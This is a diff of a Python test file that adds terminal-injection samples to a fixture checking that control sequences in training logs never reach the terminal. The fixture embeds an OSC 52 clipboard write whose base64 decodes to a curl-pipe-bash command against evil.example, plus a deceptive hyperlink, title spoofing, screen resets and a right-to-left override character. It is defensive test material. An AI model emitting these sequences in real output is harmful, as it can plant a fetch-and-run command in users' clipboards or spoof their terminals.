@@ -458,12 +458,13 @@ def test_deeply_nested_json_is_not_an_internal_error(tmp_path):
 
 ESCAPES = ("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBiYXNo\x1b\\\x1b]0;PWNED-TITLE\x1b\\"
            "\x1b]8;;http://evil.example/\x1b\\see docs\x1b]8;;\x1b\\\x1bP+q544e\x1b\\\x1b[?1049h\x1bc\x1b#8"
-           "\u009d0;C1-OSC-TITLE\u009c\u009b31m\x07\x08\r\x7f")
+           "\u009d0;C1-OSC-TITLE\u009c\u009b31m\x07\x08\x7f\u202e")
 ANSI_LOG = ("step:1 - actor/grad_norm:0.5 - actor/pg_loss:0.1\n"
             f"RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB {ESCAPES} (GPU 0; 79.1 GiB total capacity)\n"
             f"step:2 - actor/grad_norm:nan{ESCAPES} - actor/pg_loss:nan\n"
             f"{ESCAPES}Traceback (most recent call last):\n  File \"x{ESCAPES}.py\", line 1, in f\n"
-            f"ValueError: bad {ESCAPES}\n")
+            f"ValueError: bad {ESCAPES}\n"
+            "step:3 - actor/grad_norm:1.0\rprogress \x1b]0;T\x07\n")
 
 
 def test_control_sequences_never_reach_the_terminal(tmp_path):
